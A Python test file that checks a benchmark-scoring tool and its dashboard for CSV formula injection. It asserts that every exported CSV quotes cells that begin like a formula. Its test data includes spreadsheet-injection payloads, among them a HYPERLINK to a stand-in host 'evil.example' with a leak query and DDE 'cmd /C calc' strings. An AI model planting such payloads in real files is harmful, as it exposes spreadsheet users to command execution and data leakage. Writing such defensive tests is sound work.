"""Every CSV the command line or the app writes is safe to open in a spreadsheet (issue 35, item 4).

One writer (scoring/writers.py: `write_csv`, `csv_string`, `frame_csv`, and the per-question fast
paths beside them) puts a single quote before every text cell that begins with =, +, -, @, a tab or a
carriage return; numbers stay numbers. Here:

* the sources: no CSV is written anywhere else (csv.writer, DictWriter, to_csv, writerow), and every
  CSV download button's bytes come from that writer -- a new writer or download elsewhere fails;
  Streamlit's own table export (which writes cells as they are) is switched off;
* the rule itself, and its inverse on the notes import (export and import round-trip exactly);
* formula answers, questions, notes, authors and run names (`=HYPERLINK(...)`, `=cmd|' /C calc'!A0`,
  `@SUM(...)`, `+...`, `-...`, tab, CR) through every CSV of the CLI (per-question, --categories-csv,
  --weak-slices, the harness and MMLongBench-Doc tables) and every CSV download of the app (explorer,
  disagreement, evaluator and harness sensitivity, evidence, compare, weak slices, notes export):
  no cell begins like a formula unless it is a number, and each payload is there, quoted."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import tomllib
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import streamlit as st
from streamlit.elements.widgets.button import ButtonMixin

from app_kit import app_on
from scoring.writers import csv_string, frame_csv, restore_cell, safe_cell, write_csv

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_runs"
MM = SAMPLE / "mmlongbench"
HARNESS = SAMPLE / "harness"
WRITER = ROOT / "scoring" / "writers.py"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",  # text from a prediction: neutralised too (its type decides, not its look)
]
RUN = "@evil"  # a run (file) name that begins like a formula: a header and a cell in the tables
CLI_TIMEOUT = 300  # s, hang guard


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def unsafe_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run: beginning like a formula, not a number --
    or any payload written as it is."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [c for row in rows for c in row if (c.startswith(FORMULA_STARTS) and not number(c)) or c in PAYLOADS]


def quoted(payload: str) -> str:
    return "'" + payload


# ----------------------------------------------------------------------------- the sources

CSV_PRIMITIVES = {"writer", "DictWriter"}  # csv.<these>
CSV_METHODS = {"to_csv", "writerow", "writerows"}
SAFE_PRODUCERS = {"frame_csv", "csv_string", "write_csv"}


def _sources() -> list[Path]:
    return [p for folder in ("scoring", "dashboard") for p in sorted((ROOT / folder).rglob("*.py")) if "__pycache__" not in p.parts]


def _called_names(node: ast.AST) -> set[str]:
    out = set()
    for n in ast.walk(node):
        if isinstance(n, ast.Call):
            f = n.func
            out.add(f.id if isinstance(f, ast.Name) else f.attr if isinstance(f, ast.Attribute) else "")
    return out


def test_no_csv_is_written_outside_the_one_writer():
    found = []
    for path in _sources():
        if path == WRITER:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for n in ast.walk(tree):
            if (isinstance(n, ast.Attribute) and isinstance(n.value, ast.Name) and n.value.id == "csv"
                    and n.attr in CSV_PRIMITIVES):
                found.append(f"{path.relative_to(ROOT)}:{n.lineno} csv.{n.attr}")
            if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr in CSV_METHODS:
                found.append(f"{path.relative_to(ROOT)}:{n.lineno} .{n.func.attr}(...)")
    assert found == [], "CSV written outside scoring/writers.py: " + "; ".join(found)


def _csv_download(call: ast.Call) -> bool:
    for kw in call.keywords:
        if kw.arg == "mime" and isinstance(kw.value, ast.Constant) and str(kw.value.value).startswith("text/csv"):
            return True
        if kw.arg == "file_name":
            text = ast.unparse(kw.value)
            if re.search(r"\.csv\b", text):
                return True
    return False


def test_every_csv_download_comes_from_the_one_writer():
    """Each download button offering a CSV (by mime type or file name) computes its bytes with a
    function of the writer, directly or through functions of ours that call one."""
    calls: dict[str, set[str]] = {}  # function name -> names it calls (every module: names are unique enough)
    downloads = []
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for n in ast.walk(tree):
            if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef)):
                calls.setdefault(n.name, set()).update(_called_names(n))
            if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute) and n.func.attr == "download_button" \
                    and _csv_download(n):
                data = n.args[1] if len(n.args) > 1 else next(kw.value for kw in n.keywords if kw.arg == "data")
                downloads.append((f"{path.relative_to(ROOT)}:{n.lineno}", _called_names(data)))

    def safe(names: set[str], depth: int = 0) -> bool:
        if names & SAFE_PRODUCERS:
            return True
        return depth < 4 and any(safe(calls.get(name, set()), depth + 1) for name in names if name in calls)

    assert [where for where, names in downloads if not safe(names)] == []
    # every CSV download there is, by file: test_every_csv_download_of_the_app opens each (a new one fails
    # here until it is added there)
    per_file: dict[str, int] = {}
    for where, _ in downloads:
        per_file[where.split(":")[0]] = per_file.get(where.split(":")[0], 0) + 1
    assert per_file == {"dashboard/annotations/panel.py": 1, "dashboard/compare/panel.py": 1, "dashboard/explorer/panel.py": 1,
                        "dashboard/views/disagreement.py": 3, "dashboard/views/evidence.py": 1, "dashboard/weak/panel.py": 1}


def test_streamlits_own_table_export_is_off():
    """st.dataframe's toolbar "Download as CSV" is written in the browser with every cell as it is."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


# ----------------------------------------------------------------------------- the rule

def test_text_that_begins_like_a_formula_gets_one_quote_and_numbers_stay():
    for payload in PAYLOADS + ["'=x", "''@y", "'\t"]:
        assert safe_cell(payload) == quoted(payload)
        assert restore_cell(safe_cell(payload)) == payload
    for text in ["", "x=1", " =1", "'tis", "'", "616", "<script>", "0.5", "\n=1"]:
        assert safe_cell(text) == text and restore_cell(text) == text
    for value in [-0.5, -5, 0, True, None, Decimal("-1.5"), np.float64(-2.5), np.int64(-3), float("-inf"), [1], {"a": -1}]:
        assert safe_cell(value) is value
    assert safe_cell(pd.Timedelta(days=-1)) == "'-1 days +00:00:00"  # not a number: its text
    assert csv_string([[-0.5, "-0.5", -5, "-5", None, "=1"]], ["=h", "b", "c", "d", "e", "f"]) == \
        "'=h,b,c,d,e,f\r\n-0.5,'-0.5,-5,'-5,,'=1\r\n"
    buf = io.StringIO(newline="")
    assert write_csv(buf, [[-0.123456789, "=x", 3]], ["gap", "slice", "n"], float_format=lambda v: format(v, ".6g")) == 1
    assert buf.getvalue() == "gap,slice,n\r\n-0.123457,'=x,3\r\n"  # a formatted number is still a number


def test_a_frame_keeps_its_numbers_and_quotes_its_text():
    frame = pd.DataFrame({"run": [RUN, "b", None], "delta": [-0.25, 0.5, np.nan], "n": [-3, 2, 1],
                          "cat": pd.Categorical(["-x", "y", "y"]), "mixed": ["=1", -2.0, None], "=col": ["a", "b", "c"]})
    text = frame_csv(frame).decode("utf-8")
    assert text.splitlines() == ["run,delta,n,cat,mixed,'=col", "'@evil,-0.25,-3,'-x,'=1,a", "b,0.5,2,y,-2.0,b", ",,1,y,,c"]
    numbers = frame[["delta", "n"]]
    assert frame_csv(numbers) == numbers.to_csv(index=False, lineterminator="\r\n").encode("utf-8")  # as pandas writes it
    plain = pd.DataFrame({"q": ["a", "b"], "s": [1.0, 0.0]})
    assert frame_csv(plain) == b"q,s\r\na,1.0\r\nb,0.0\r\n"
    # a carriage return inside a cell is quoted (pandas' own "\n" line ends leave it bare: a new row there)
    assert frame_csv(pd.DataFrame({"a": ["\r=1+1", "x\ry"]})) == b'a\r\n"\'\r=1+1"\r\n"x\ry"\r\n'


# ----------------------------------------------------------------------------- hostile inputs

def hostile_bench(root: Path) -> tuple[Path, dict[str, str]]:
    """The sample benchmark with payloads as answers of two runs (one named RUN), as questions and in
    the metadata; (folder, {question id: payload answered})."""
    bench = root / "bench"
    bench.mkdir()
    for name in ("documents.jsonl", "qa_cross_doc.jsonl", "docs"):
        (shutil.copytree if (SAMPLE / name).is_dir() else shutil.copy)(SAMPLE / name, bench / name)
    gold = [json.loads(line) for line in (SAMPLE / "qa_single_doc.jsonl").read_text(encoding="utf-8").splitlines() if line.strip()]
    for k, row in enumerate(gold[: len(PAYLOADS)]):
        row["question"] = PAYLOADS[k]
    gold[0]["metadata"]["domain"] = "=cmd|' /C calc'!A0"
    (bench / "qa_single_doc.jsonl").write_text("".join(json.dumps(r) + "\n" for r in gold), encoding="utf-8")
    (bench / "runs").mkdir()
    answered = {}
    for name, source in ((RUN, "longctx-ocr.jsonl"), ("small-9b", "small-9b.jsonl")):
        lines = [json.loads(line) for line in (SAMPLE / "runs" / source).read_text(encoding="utf-8").splitlines() if line.strip()]
        for k, payload in enumerate(PAYLOADS):
            qid = gold[k + 3]["question_id"]
            row = next(r for r in lines if r.get("question_id", r.get("id")) == qid)
            row["prediction" if "prediction" in row else "answer"] = payload
            answered[qid] = payload
        (bench / "runs" / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    return bench, answered


def _check(name: str, text: str, must_hold: list[str] = ()) -> None:
    assert unsafe_cells(text) == [], f"{name}: cells a spreadsheet would run"
    cells = {c for row in csv.reader(io.StringIO(text, newline="")) for c in row}
    assert [p for p in must_hold if quoted(p) not in cells] == [], f"{name}: payloads not found quoted"


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    done = subprocess.run([sys.executable, "-m", "scoring", *args], cwd=cwd, capture_output=True, text=True, timeout=CLI_TIMEOUT)
    assert done.returncode == 0, done.stderr[-3000:]
    return done


def test_every_csv_of_the_command_line(tmp_path):
    bench, _ = hostile_bench(tmp_path)
    gold = [str(bench / "qa_single_doc.jsonl"), str(bench / "qa_cross_doc.jsonl")]
    out = tmp_path / "out"
    for profile in ("xldocbench", "xldocbench-1519"):
        _cli("--gold-files", *gold, "--predictions", str(bench / "runs" / f"{RUN}.jsonl"), "--profile", profile,
             "--output", str(out / f"{profile}.json"), "--per-question-csv", str(out / f"{profile}.csv"),
             "--categories-csv", str(out / f"{profile}_categories.csv"), cwd=tmp_path)
        per_question = (out / f"{profile}.csv").read_bytes().decode("utf-8")
        _check(f"per-question CSV ({profile})", per_question, PAYLOADS)
        rows = list(csv.DictReader(io.StringIO(per_question, newline="")))
        assert {r["domain"] for r in rows} >= {quoted("=cmd|' /C calc'!A0")}
        assert all(float(r["accuracy"]) in (0.0, 1.0) for r in rows)  # scores stay numbers
        report = json.loads((out / f"{profile}.json").read_text(encoding="utf-8"))
        assert {r["prediction"] for r in report["per_question"]} >= set(PAYLOADS)  # the JSON holds the text as it is
        _check(f"categories CSV ({profile})", (out / f"{profile}_categories.csv").read_bytes().decode("utf-8"))
    # the weak slices (the gate), on test_gate_cli's generated benchmark with a planted weak slice:
    # numbers stay numbers (the gaps are negative), text is made safe
    from test_gate_cli import counting_over_charts, write_gold, write_run

    planted, rows = write_gold(tmp_path)
    worse = write_run(tmp_path, RUN, rows, seed=1, weak=counting_over_charts, drop=0.8)
    _cli("--gold-files", str(planted), "--predictions", str(worse), "--weak-slices", str(out / "weak.csv"), cwd=tmp_path)
    weak = (out / "weak.csv").read_bytes().decode("utf-8")
    _check("weak slices CSV", weak)
    rows = list(csv.DictReader(io.StringIO(weak, newline="")))
    assert rows and all(number(r["gap"]) and float(r["gap"]) < 0 for r in rows), weak[:500]
    # several files: one CSV per run in a folder, the run named like a formula
    _cli("--gold-files", *gold, "--predictions", *map(str, sorted((bench / "runs").iterdir())),
         "--per-question-csv", str(out / "many"), "--categories-csv", str(out / "many_categories"), cwd=tmp_path)
    for path in sorted((out / "many").iterdir()) + sorted((out / "many_categories").iterdir()):
        _check(path.name, path.read_bytes().decode("utf-8"))


def test_the_harness_and_mmlongbench_tables(tmp_path):
    harness = tmp_path / "harness"
    shutil.copytree(HARNESS, harness)
    samples = next(harness.rglob("*_samples_mmlongbench_doc.jsonl"))
    lines = [json.loads(line) for line in samples.read_text(encoding="utf-8").splitlines() if line.strip()]
    for k, payload in enumerate(PAYLOADS):
        lines[k]["filtered_resps"] = payload
    samples.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    _cli("--predictions", str(harness), "--gold-files", str(MM / "data" / "samples.json"), "--profile", "mmlongbench-doc",
         "--output", str(tmp_path / "h.json"), "--per-question-csv", str(tmp_path / "h.csv"), cwd=tmp_path)
    kept = [p for p in PAYLOADS if not p[0].isspace()]  # the harness readers strip the answer's white space
    _check("harness per-question CSV", (tmp_path / "h.csv").read_bytes().decode("utf-8"), kept)

    results = json.loads((MM / "results" / "res_docowl-8b.json").read_text(encoding="utf-8"))
    for k, payload in enumerate(PAYLOADS):
        results[k]["pred"] = payload
    path = tmp_path / "res_docowl-8b.json"
    path.write_text(json.dumps(results), encoding="utf-8")
    _cli("--profile", "mmlongbench-doc", "--gold-files", str(MM / "data" / "samples.json"), "--predictions", str(path),
         "--per-question-csv", str(tmp_path / "mm.csv"), cwd=tmp_path)
    _check("MMLongBench-Doc per-question CSV", (tmp_path / "mm.csv").read_bytes().decode("utf-8"), kept)


# ----------------------------------------------------------------------------- the app's downloads

@pytest.fixture
def downloads(monkeypatch):
    """[(file name, bytes)] of every download a page offers (a deferred one is computed)."""
    seen: list[tuple[str, bytes]] = []

    def keep(data, file_name):
        seen.append((file_name or "", data() if callable(data) else data))

    original = ButtonMixin.download_button

    def method(self, label, data, file_name=None, *args, **kwargs):
        keep(data, file_name)
        return original(self, label, data, file_name, *args, **kwargs)

    module_level = st.download_button

    def function(label, data, file_name=None, *args, **kwargs):
        keep(data, file_name)
        return module_level(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(ButtonMixin, "download_button", method)
    monkeypatch.setattr(st, "download_button", function)
    return seen


def _csvs(seen: list[tuple[str, bytes]]) -> dict[str, str]:
    out = {}
    for name, data in seen:
        if name.endswith(".csv"):
            out[name] = data.decode("utf-8") if isinstance(data, bytes) else str(data)
    return out


def test_every_csv_download_of_the_app(tmp_path, monkeypatch, downloads):
    from dashboard.annotations.identity import benchmark_identity
    from dashboard.annotations.store import AnnotationStore
    from scoring.loaders import load_gold

    bench, answered = hostile_bench(tmp_path)
    data = tmp_path / "data"
    monkeypatch.setenv("LENS_DATA_DIR", str(data))
    monkeypatch.delenv("LENS_DATABASE_URL", raising=False)
    identity = benchmark_identity(load_gold([bench / "qa_single_doc.jsonl", bench / "qa_cross_doc.jsonl"]).items)
    qid = next(iter(answered))
    store = AnnotationStore(data / "annotations.sqlite3")
    store.save_note(identity, qid, RUN, text="=cmd|' /C calc'!A0", author="@ana", expected_revision=0)
    store.save_note(identity, qid, text="-2+3+cmd|' /C calc'!A0", author="+bob", expected_revision=0)

    runs = {"run": [RUN, "small-9b"]}
    visits = [
        ("views/questions.py", runs),
        ("views/disagreement.py", runs),
        ("views/evidence.py", {**runs, "sel": qid}),
        ("views/compare.py", {"a": RUN, "b": "small-9b"}),
        ("views/compare.py", {"a": RUN, "b": "small-9b", "cmp_tab": "all", "cmp_run": RUN}),
        ("views/data.py", {}),
    ]
    # the weak slices need a slice found: test_gate_cli's generated benchmark, a weak slice planted
    from test_gate_cli import counting_over_charts, write_gold, write_run

    planted = tmp_path / "planted"
    (planted / "runs").mkdir(parents=True)
    _, rows = write_gold(planted)
    write_run(planted / "runs", RUN, rows, seed=1, weak=counting_over_charts, drop=0.8)
    got: dict[str, str] = {}
    for folder, page, params in [(bench, *v) for v in visits] + [(planted, "views/weak.py", {"wk_run": RUN})]:
        downloads.clear()
        at = app_on(monkeypatch, folder, params, timeout=180)
        at.switch_page(page).run()
        if page == "views/weak.py":  # the finder runs on request
            at.button(key="weak_go").click().run()
        assert not at.exception, (page, [e.value for e in at.exception])
        got.update(_csvs(downloads))
    names = sorted(got)
    expected = [r"questions\.csv", r"disagreement\.csv", r"sensitivity_.+\.csv", r"evidence_metrics\.csv",
                r"deltas_.+_vs_.+\.csv", r"flips_.+_vs_.+\.csv", r"questions_.+_vs_.+\.csv",
                r"ranks_.+\.csv", r"weak_slices_.+\.csv", r"annotations\.csv"]
    assert [p for p in expected if not any(re.fullmatch(p, n) for n in names)] == [], names
    for name, text in got.items():
        _check(name, text)
    _check("questions.csv", got["questions.csv"], PAYLOADS)  # answers and questions, as text
    assert f"'{RUN}" in got["questions.csv"].splitlines()[0]  # the run's columns in the header
    _check("annotations.csv", got["annotations.csv"], ["=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@ana", "+bob"])
    assert any(quoted(p) in got["disagreement.csv"] for p in PAYLOADS[:5])
    ranks = next(text for name, text in got.items() if name.startswith("ranks_"))
    assert quoted(RUN) in {c for row in csv.reader(io.StringIO(ranks, newline="")) for c in row}

    # the notes' CSV imports back to the same text: the quote is removed again
    from dashboard.annotations.exchange import import_bytes
    other = AnnotationStore(tmp_path / "other.sqlite3")
    result = import_bytes(other, identity, got["annotations.csv"].encode("utf-8"), "annotations.csv")
    assert result.added == 2, result.summary()
    assert sorted((n.text, n.author) for n in other.notes(identity)) == [
        ("-2+3+cmd|' /C calc'!A0", "+bob"), ("=cmd|' /C calc'!A0", "@ana")]


def test_the_harness_sensitivity_download(tmp_path, monkeypatch, downloads):
    harness = tmp_path / "harness"
    shutil.copytree(HARNESS, harness)
    samples = next(harness.rglob("*_samples_mmlongbench_doc.jsonl"))
    lines = [json.loads(line) for line in samples.read_text(encoding="utf-8").splitlines() if line.strip()]
    for k, payload in enumerate(PAYLOADS):  # the harness scored them right: the evaluator does not
        lines[k]["filtered_resps"] = payload
        lines[k]["mmlongbench_doc_acc"] = {"score": 1.0}
    samples.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    monkeypatch.setenv("LENS_DATA_DIR", str(tmp_path / "data"))
    at = app_on(monkeypatch, MM, {"run": ["Qwen/Qwen2.5-VL-7B-Instruct", "MiniCPM-Llama3-V-2_5"]}, timeout=180,
                env={"LENS_RUNS": str(harness)})
    at.switch_page("views/disagreement.py").run()
    assert not at.exception, [e.value for e in at.exception]
    got = _csvs(downloads)
    harness_csvs = {n: t for n, t in got.items() if n.startswith("harness_sensitivity_")}
    assert harness_csvs, sorted(got)
    for name, text in got.items():
        _check(name, text)
    assert any(quoted(p) in t for t in harness_csvs.values() for p in PAYLOADS)
